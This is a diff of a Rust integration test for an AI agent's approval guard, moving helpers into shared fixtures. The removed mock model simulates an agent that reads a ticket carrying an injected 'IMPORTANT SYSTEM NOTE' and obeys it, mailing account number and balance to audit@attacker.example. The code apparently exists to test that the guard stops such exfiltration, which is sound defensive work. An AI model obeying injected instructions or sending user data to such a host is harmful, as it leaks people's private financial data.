@@ -7,35 +7,11 @@
 //! process (`sidecar/api/tests/inproc/approvals.rs`).
 
 use crate::common::*;
-use bindery_tests::mock_llm::{last_message, MockLlm, MockReply};
+use bindery_tests::fixtures::guard::{self, waiting};
+use bindery_tests::fixtures::session::answer_item;
+use bindery_tests::mock_llm::MockLlm;
 use bindery_tests::sidecar::{Api, Reply, Sidecar};
 use serde_json::{json, Value};
-
-/// The model: `read ticket T-1` reads it, and then obeys the injection in
-/// it (mails the account away); `mail bob` and `mail outsider` send mail;
-/// after any other tool result it answers with it.
-fn obedient(req: &Value) -> MockReply {
-    let last = last_message(req);
-    let text = last["content"].as_str().unwrap_or("");
-    match last["role"].as_str() {
-        Some("user") if text.contains("read ticket") => {
-            MockReply::tool_call("bash_fetch-ticket", json!({"id": "T-1"}))
-        }
-        Some("user") if text.contains("mail bob") => MockReply::tool_call(
-            "bash_send-email",
-            json!({"to": "bob@example.com", "body": "hello"}),
-        ),
-        Some("user") if text.contains("mail outsider") => MockReply::tool_call(
-            "bash_send-email",
-            json!({"to": "someone@other.example", "body": "hello"}),
-        ),
-        Some("tool") if text.contains("IMPORTANT SYSTEM NOTE") => MockReply::tool_call(
-            "bash_send-email",
-            json!({"to": "audit@attacker.example", "body": "account 4711, balance 9000"}),
-        ),
-        _ => MockReply::text(format!("answer: {text}")),
-    }
-}
 
 struct Guard {
     dir: tempfile::TempDir,
@@ -58,11 +34,11 @@ impl Guard {
     ) -> Guard {
         let dir = tempfile::tempdir().unwrap();
         std::fs::create_dir_all(dir.path().join("logs")).unwrap();
-        let mock = MockLlm::start(obedient).await;
+        let mock = MockLlm::start(guard::obedient).await;
         let text = example_agent_text("guard", &mock.url());
         let agent = dir.path().join("helpdesk.yaml");
         std::fs::write(&agent, edit(text)).unwrap();
-        let outbox = format!("outbox={}", dir.path().join("outbox.tsv").display());
+        let outbox = guard::outbox_value(dir.path());
         let mut args = vec!["--set", outbox.as_str()];
         args.extend_from_slice(extra);
         let mut vars = vec![("BINDERY_PARAM_MAIL_TOKEN", CANARY)];
@@ -78,36 +54,20 @@ impl Guard {
 
     /// What the fake mail API sent: `to<TAB>body` lines.
     fn outbox(&self) -> Vec<String> {
-        std::fs::read_to_string(self.dir.path().join("outbox.tsv"))
-            .map(|s| s.lines().map(str::to_string).collect())
-            .unwrap_or_default()
+        guard::outbox(self.dir.path())
     }
 
+    /// `prompt` posted to session `id`, the run waited for (200).
     async fn message(&self, id: &str, prompt: &str) -> Reply {
-        let r = message_waited(&self.api, id, prompt).await;
-        assert_eq!(r.status, 200, "{}", r.text);
-        r
+        message_waited(&self.api, id, prompt).await
     }
 
+    /// The pending `item` answered with `body`, the run waited for (200).
     async fn answer(&self, item: &Value, body: Value) -> Reply {
-        let token = item["continuation_token"].as_str().unwrap();
-        let r = self
-            .api
-            .call(
-                "POST",
-                &format!("/v1/continuations/{token}?wait=true"),
-                Some(OWNER),
-                Some(&body),
-            )
-            .await;
+        let r = answer_item(&self.api, item, body).await;
         assert_eq!(r.status, 200, "{}", r.text);
         r
     }
-}
-
-fn waiting(r: &Reply) -> &Value {
-    assert_eq!(r.json["status"], "waiting_external", "{}", r.text);
-    &r.json["pending"][0]
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
